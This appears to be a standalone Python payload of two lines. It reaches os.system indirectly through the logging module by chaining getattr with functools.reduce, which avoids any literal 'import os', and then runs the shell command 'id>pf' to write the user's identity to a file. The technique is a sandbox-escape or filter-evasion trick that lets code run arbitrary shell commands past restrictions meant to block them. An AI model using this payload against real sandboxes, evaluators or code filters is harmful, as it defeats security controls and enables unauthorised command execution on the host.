import functools, logging
functools.reduce(getattr, ["os", "system"], logging)("id>pf")
